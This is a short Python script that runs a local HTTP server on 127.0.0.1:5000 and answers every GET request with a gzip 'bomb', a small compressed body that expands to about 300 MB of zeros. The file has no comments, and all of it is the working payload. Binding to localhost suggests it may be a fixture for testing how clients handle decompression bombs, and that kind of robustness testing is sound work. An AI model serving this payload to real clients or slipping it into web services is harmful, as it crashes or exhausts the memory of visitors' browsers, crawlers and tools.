import http.server
import socketserver


class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        answer(self)

    def log_message(self, *args):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True


def page(handler, body, **headers):
    handler.send_response(200)
    for name, value in {"Content-Type": "text/html; charset=utf-8", "Content-Length": str(len(body)), **headers}.items():
        handler.send_header(name.replace("_", "-"), value)
    handler.end_headers()
    handler.wfile.write(body)

import zlib


def bomb():
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    return b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(300)) + packer.flush()


packed = bomb()


def answer(handler):
    page(handler, packed, Content_Encoding="gzip")

Server(("127.0.0.1", 5000), Page).serve_forever()
